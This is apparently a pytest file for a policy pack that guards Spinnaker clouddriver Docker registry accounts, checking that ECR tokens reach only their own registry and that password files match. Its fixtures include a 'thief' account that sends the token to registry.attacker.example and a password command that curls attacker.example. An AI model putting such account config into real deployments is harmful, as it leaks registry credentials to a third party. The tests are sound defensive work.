"""clouddriver's docker accounts: an ECR token goes only to the registry it was made for; other accounts bring no
inline password or command; the token refresh writes exactly the files the accounts read; every clouddriver
profile is checked."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from test_policy_support import (
    ADVISORY,
    MANDATORY,
    Planned,
    accounts,
    edited,
    findings,
    is_spinnaker_patch,
    of_type,
    one,
    planned,
    planned_prod,
    preview,
    production_config,
    rules,
    spinnaker_config,
    with_extra_sidecars_pinned,
)

from tools.offline import ProgramRun, run_program
from tools.stack_files import stack_config

TOKEN = "ecr-token-sent-only-to-its-registry"
OWN_CREDENTIALS = "no-password-or-command-in-other-accounts"
MATCH = "password-files-match-token-refresh-config"
UNDER_MOUNT = "password-files-under-shared-mount"
ATTACKER = "https://registry.attacker.example"
PROD_USE1 = "https://210987654321.dkr.ecr.us-east-1.amazonaws.com"


def with_account(account: dict[str, Any], profile: str = "clouddriver") -> Any:
    def change(props: dict[str, Any]) -> None:
        profiles = spinnaker_config(props)["profiles"]
        profiles.setdefault(profile, {"dockerRegistry": {"enabled": True, "accounts": []}})
        accounts(props, profile).append(copy.deepcopy(account))

    return change


def thief(password_file: str = "/etc/passwords/ecr-prod-use1.pass", **fields: Any) -> dict[str, Any]:
    return {"name": "mirror", "address": ATTACKER, "username": "AWS", "passwordFile": password_file, **fields}


# --- the ECR token goes only to its registry -------------------------------------------------------------------


@pytest.mark.parametrize("profile", ["clouddriver", "clouddriver-rw", "clouddriver-caching", "clouddriver-ro-deck"])
def test_an_account_sending_the_token_elsewhere_is_refused(stack_runs: dict[str, ProgramRun], profile: str) -> None:
    resources = edited(planned_prod(stack_runs), is_spinnaker_patch, with_account(thief(), profile))
    found = one(preview(resources), TOKEN, MANDATORY, f"profiles.{profile}.dockerRegistry.accounts", "'mirror'")
    assert ATTACKER in found.message and PROD_USE1 in found.message


def test_an_account_in_config_providers_is_checked_too(stack_runs: dict[str, ProgramRun]) -> None:
    def change(props: dict[str, Any]) -> None:
        config = spinnaker_config(props)["config"]
        config["providers"] = {"dockerRegistry": {"accounts": [thief()]}}

    one(preview(edited(planned_prod(stack_runs), is_spinnaker_patch, change)), TOKEN, MANDATORY, "config.providers")


@pytest.mark.parametrize(
    "password_file",
    [
        "/etc/passwords//ecr-prod-use1.pass",
        "//etc/passwords/ecr-prod-use1.pass",
        "/etc/passwords/./ecr-prod-use1.pass",
        "/etc/passwords/../passwords/ecr-prod-use1.pass",
    ],
)
def test_a_spelling_of_the_same_file_is_the_same_file(stack_runs: dict[str, ProgramRun], password_file: str) -> None:
    resources = edited(planned_prod(stack_runs), is_spinnaker_patch, with_account(thief(password_file)))
    one(preview(resources), TOKEN, MANDATORY, "'mirror'")


@pytest.mark.parametrize(
    "field, value, fragment",
    [
        ("address", "https://210987654321.dkr.ecr.us-west-2.amazonaws.com", "us-west-2"),
        ("address", "https://012345678901.dkr.ecr.us-east-1.amazonaws.com", "012345678901"),
        ("address", PROD_USE1 + "/", PROD_USE1 + "/"),
        ("address", PROD_USE1 + ".attacker.example", "attacker.example"),
        ("address", "http://210987654321.dkr.ecr.us-east-1.amazonaws.com", "http://"),
        ("username", "admin", "username 'admin'"),
        ("insecureRegistry", True, "insecureRegistry"),
    ],
)
def test_our_own_account_must_carry_exactly_its_registry(
    stack_runs: dict[str, ProgramRun], field: str, value: Any, fragment: str
) -> None:
    """A program edit, not a stack-file edit: the pack catches it all the same."""

    def change(props: dict[str, Any]) -> None:
        accounts(props)[0][field] = value

    found = one(preview(edited(planned_prod(stack_runs), is_spinnaker_patch, change)), TOKEN, MANDATORY, fragment)
    assert "'ecr-prod-use1'" in found.message


def test_aws_cn_registries_are_under_amazonaws_com_cn() -> None:
    config = {
        "aws:region": "cn-north-1",
        "spinnaker-ecr:access": {"mode": "node-role", "nodeRoleName": "nodes"},
        "spinnaker-ecr:tokenRefresh": {"image": "registry.example/ecr-token-refresh:1"},
        "spinnaker-ecr:registries": [{"name": "ecr-cn", "accountId": "111122223333", "region": "cn-north-1"}],
    }
    resources = planned(run_program(config, "cn"))
    assert findings(preview(resources), TOKEN) == []

    def change(props: dict[str, Any]) -> None:
        accounts(props)[0]["address"] = "https://111122223333.dkr.ecr.cn-north-1.amazonaws.com"

    one(preview(edited(resources, is_spinnaker_patch, change)), TOKEN, MANDATORY, "amazonaws.com.cn")


def test_a_config_yaml_registry_without_a_valid_region_feeds_no_address(stack_runs: dict[str, ProgramRun]) -> None:
    def change(props: dict[str, Any]) -> None:
        props["data"]["config.yaml"] = props["data"]["config.yaml"].replace("region: us-east-1", "region: attacker")

    found = preview(edited(planned(stack_runs["dev"]), of_type(rules.CONFIG_MAP), change))
    one(found, TOKEN, MANDATORY, "region 'attacker' is not an AWS region", "'ecr-dev'")


def test_a_relative_password_file_is_no_token_file(stack_runs: dict[str, ProgramRun]) -> None:
    """The sidecar and clouddriver resolve it in different containers: it is not the token clouddriver reads."""

    def config_map(props: dict[str, Any]) -> None:
        props["data"]["config.yaml"] = props["data"]["config.yaml"].replace("/etc/passwords/ecr-dev.pass", "ecr.pass")

    def patch(props: dict[str, Any]) -> None:
        accounts(props)[0].update(passwordFile="ecr.pass", address=ATTACKER)

    resources = edited(planned(stack_runs["dev"]), of_type(rules.CONFIG_MAP), config_map)
    found = preview(edited(resources, is_spinnaker_patch, patch))
    assert findings(found, TOKEN) == [] and findings(found, UNDER_MOUNT), found


def test_a_config_yaml_registry_without_a_valid_id_feeds_no_address(stack_runs: dict[str, ProgramRun]) -> None:
    def change(props: dict[str, Any]) -> None:
        props["data"]["config.yaml"] = props["data"]["config.yaml"].replace('"111122223333"', "111122223333")

    found = preview(edited(planned(stack_runs["dev"]), of_type(rules.CONFIG_MAP), change))
    one(found, TOKEN, MANDATORY, "registryId", "'ecr-dev'")


def external_secrets_run() -> ProgramRun:
    config = stack_config("staging")
    config["spinnaker-ecr:tokenRefresh"] = {"method": "external-secrets"}
    return run_program(config, "staging")


def test_an_external_secrets_token_goes_only_to_its_region() -> None:
    resources = planned(external_secrets_run())
    assert findings(preview(resources), TOKEN) == []
    stolen = thief("/etc/ecr/eu-west-1/password")
    found = one(preview(edited(resources, is_spinnaker_patch, with_account(stolen))), TOKEN, MANDATORY, "'mirror'")
    assert "eu-west-1" in found.message
    elsewhere = {**stolen, "address": "https://444455556666.dkr.ecr.us-east-1.amazonaws.com"}
    one(preview(edited(resources, is_spinnaker_patch, with_account(elsewhere))), TOKEN, MANDATORY, "us-east-1")


def password_command_run() -> ProgramRun:
    config = stack_config("staging")
    config["spinnaker-ecr:tokenRefresh"] = {"method": "password-command"}
    return run_program(config, "staging")


@pytest.mark.parametrize(
    "command",
    [
        "aws ecr get-login-password --region eu-west-1",
        "aws --region eu-west-1 ecr get-login-password",
        "aws ecr get-authorization-token --region eu-west-1 --output text",
    ],
)
def test_a_password_command_token_goes_only_to_its_region(command: str) -> None:
    resources = planned(password_command_run())
    assert findings(preview(resources), TOKEN) == []
    account = {"name": "mirror", "address": ATTACKER, "username": "AWS", "passwordCommand": command}
    one(preview(edited(resources, is_spinnaker_patch, with_account(account))), TOKEN, MANDATORY, "'mirror'")


# --- other accounts: no inline password, no command ------------------------------------------------------------------


@pytest.mark.parametrize(
    "field, value",
    [("passwordCommand", "curl -s https://attacker.example/p"), ("password", "hunter2")],
)
def test_an_extra_account_with_a_password_or_command_is_reported(field: str, value: str) -> None:
    """By a stack-file edit alone; the entry is named; mandatory on production stacks."""
    config = stack_config("prod")
    config["spinnaker-ecr:spinnaker"]["extraDockerAccounts"][0].update({"username": "bot", field: value})
    resources = with_extra_sidecars_pinned(planned(run_program(config, "prod")))
    for policy_config, level in ((None, ADVISORY), (production_config(), MANDATORY)):
        found = one(preview(resources, policy_config), OWN_CREDENTIALS, level, field, "'dockerhub'")
        assert "profiles.clouddriver.dockerRegistry.accounts[3]" in found.message
        assert (value in found.message) is (field == "passwordCommand"), "a password is never echoed"


def test_the_token_refresh_password_command_is_not_reported() -> None:
    assert findings(preview(planned(password_command_run()), production_config()), OWN_CREDENTIALS) == []


# --- the ConfigMap's files are the accounts' files -----------------------------------------------------------------


def test_a_registry_no_account_reads_is_refused(stack_runs: dict[str, ProgramRun]) -> None:
    def change(props: dict[str, Any]) -> None:
        accounts(props).pop(0)

    found = one(preview(edited(planned_prod(stack_runs), is_spinnaker_patch, change)), MATCH, MANDATORY)
    assert "/etc/passwords/ecr-prod-use1.pass" in found.message and "no clouddriver account reads it" in found.message


def test_an_account_reading_a_file_nothing_writes_is_refused(stack_runs: dict[str, ProgramRun]) -> None:
    def change(props: dict[str, Any]) -> None:
        accounts(props)[0]["passwordFile"] = "/etc/passwords/typo.pass"

    found = findings(preview(edited(planned_prod(stack_runs), is_spinnaker_patch, change)), MATCH)
    assert [d.level for d in found] == [MANDATORY, MANDATORY], found
    assert "'ecr-prod-use1': passwordFile /etc/passwords/typo.pass" in found[0].message
    assert "nothing writes it" in found[0].message
    assert "/etc/passwords/ecr-prod-use1.pass: no clouddriver account reads it" in found[1].message


def test_an_account_without_a_password_file_does_not_end_the_match(stack_runs: dict[str, ProgramRun]) -> None:
    def change(props: dict[str, Any]) -> None:
        accounts(props).insert(0, {"name": "anonymous", "address": "https://index.docker.io"})
        accounts(props)[1]["passwordFile"] = "/etc/passwords/typo.pass"

    found = findings(preview(edited(planned_prod(stack_runs), is_spinnaker_patch, change)), MATCH)
    assert any("accounts[1] 'ecr-prod-use1': passwordFile /etc/passwords/typo.pass" in d.message for d in found), found


def test_an_account_in_config_providers_reads_no_refreshed_file(stack_runs: dict[str, ProgramRun]) -> None:
    """Halyard copies such a file once into a Secret: the registry's file still has no reader."""

    def change(props: dict[str, Any]) -> None:
        moved = accounts(props).pop(0)
        spinnaker_config(props)["config"]["providers"] = {"dockerRegistry": {"accounts": [moved]}}

    found = findings(preview(edited(planned_prod(stack_runs), is_spinnaker_patch, change)), MATCH)
    assert [d.message.rsplit("\n", 1)[-1] for d in found] == [
        "kubernetes:core/v1:ConfigMap 'token-refresh-config' config.yaml registries[0]: passwordFile "
        "/etc/passwords/ecr-prod-use1.pass: no clouddriver account reads it"
    ]


@pytest.mark.parametrize("key", ["username", "expires_at", "proxy_endpoint"])
def test_an_external_secrets_account_reads_the_password_key(key: str) -> None:
    def change(props: dict[str, Any]) -> None:
        accounts(props)[0]["passwordFile"] = f"/etc/ecr/eu-west-1/{key}"

    found = preview(edited(planned(external_secrets_run()), is_spinnaker_patch, change))
    one(found, MATCH, MANDATORY, f"/etc/ecr/eu-west-1/{key}", "/etc/ecr/eu-west-1/password")


def with_generator(kind: str = "ECRAuthorizationToken", region: str = "eu-west-1") -> Any:
    """The ExternalSecret's generator reference and the generator's region changed."""

    def change(props: dict[str, Any]) -> None:
        if "dataFrom" in props.get("spec", {}):
            props["spec"]["dataFrom"][0]["sourceRef"]["generatorRef"]["kind"] = kind
        elif "region" in props.get("spec", {}):
            props["spec"]["region"] = region

    return change


def is_eso(resource: Planned) -> bool:
    return "external-secrets.io" in resource.type


def test_a_secret_from_another_generator_holds_no_ecr_token() -> None:
    """An ACR token generator's Secret (kind sorts before ECRAuthorizationToken) may go to any registry."""
    resources = edited(planned(external_secrets_run()), is_eso, with_generator(kind="ACRAccessToken"))
    found = preview(edited(resources, is_spinnaker_patch, with_account(thief("/etc/ecr/eu-west-1/password"))))
    assert findings(found, TOKEN) == [], found


@pytest.mark.parametrize("kind", ["ACRAccessToken", "Password"])
@pytest.mark.parametrize("position", [0, 1])
def test_only_the_ecr_generator_of_data_from_counts(kind: str, position: int) -> None:
    """Another generator beside it, before or after, changes nothing: its kind sorts before or after ECR's."""

    def another_generator(props: dict[str, Any]) -> None:
        if "dataFrom" in props.get("spec", {}):
            other = {"sourceRef": {"generatorRef": {"kind": kind, "name": "other"}}}
            props["spec"]["dataFrom"].insert(position, other)

    resources = edited(planned(external_secrets_run()), is_eso, another_generator)
    found = preview(edited(resources, is_spinnaker_patch, with_account(thief("/etc/ecr/eu-west-1/password"))))
    ecr = 1 - position
    one(found, TOKEN, MANDATORY, "'mirror'", f"spec.dataFrom[{ecr}]", "it must be exactly https://<12-digit")


def test_an_external_secret_without_a_name_before_ours_changes_nothing() -> None:
    resources = planned(external_secrets_run())
    unnamed = Planned("kubernetes:external-secrets.io/v1:ExternalSecret", "unnamed", "urn:unnamed", {}, {"spec": {}})
    resources = edited([unnamed, *resources], is_spinnaker_patch, with_account(thief("/etc/ecr/eu-west-1/password")))
    one(preview(resources), TOKEN, MANDATORY, "'mirror'")


def test_the_secret_is_named_by_the_target_before_the_external_secret() -> None:
    def rename(props: dict[str, Any]) -> None:
        if "target" in props.get("spec", {}):
            props["spec"]["target"]["name"] = "renamed"
        if "service-settings" in props.get("spec", {}).get("spinnakerConfig", {}):
            for settings in spinnaker_config(props)["service-settings"].values():
                for volume in settings["kubernetes"]["volumes"]:
                    volume["id"] = "renamed"
            accounts(props).append(thief("/etc/ecr/eu-west-1/password"))

    found = preview(edited(planned(external_secrets_run()), lambda r: True, rename))
    one(found, TOKEN, MANDATORY, "'mirror'")


def test_a_config_map_volume_named_like_the_secret_holds_no_token() -> None:
    def as_config_map(props: dict[str, Any]) -> None:
        volumes = spinnaker_config(props)["service-settings"]["clouddriver"]["kubernetes"]["volumes"]
        volumes.append({"id": "ecr-token-eu-west-1", "type": "configMap", "mountPath": "/etc/other"})
        accounts(props).append(thief("/etc/other/password"))

    found = preview(edited(planned(external_secrets_run()), is_spinnaker_patch, as_config_map))
    assert findings(found, TOKEN) == [], found


@pytest.mark.parametrize("region", ["attacker", "eu-west-1 ", "EU-WEST-1"])
def test_a_generator_without_a_region_feeds_no_address(region: str) -> None:
    resources = edited(planned(external_secrets_run()), is_eso, with_generator(region=region))
    found = findings(preview(resources), TOKEN)
    assert [d.level for d in found] == [MANDATORY, MANDATORY], found
    assert all("names no AWS region" in d.message for d in found)
    assert "'ecr-staging'" in found[0].message and "'ecr-shared'" in found[1].message


@pytest.mark.parametrize("profile", ["clouddriver-rw", "clouddriver-ro", "clouddriver-caching"])
def test_every_clouddriver_profile_is_checked_for_its_password_files(
    stack_runs: dict[str, ProgramRun], profile: str
) -> None:
    account = {"name": "elsewhere", "address": PROD_USE1, "username": "AWS", "passwordFile": "/tmp/ecr.pass"}
    found = preview(edited(planned(stack_runs["staging"]), is_spinnaker_patch, with_account(account, profile)))
    one(found, UNDER_MOUNT, MANDATORY, f"profiles.{profile}.dockerRegistry.accounts[0] 'elsewhere'")


@pytest.mark.parametrize("service", ["igor", "bakery"])
def test_profiles_of_other_services_are_not_clouddriver_accounts(
    stack_runs: dict[str, ProgramRun], service: str
) -> None:
    """Their pods have no token-refresh mount; `bakery` sorts before clouddriver, `igor` after."""
    account = {"name": "elsewhere", "address": ATTACKER, "passwordFile": "/etc/passwords/ecr-staging.pass"}
    found = preview(edited(planned(stack_runs["staging"]), is_spinnaker_patch, with_account(account, service)))
    assert [d for d in found if d.level == MANDATORY] == [], found
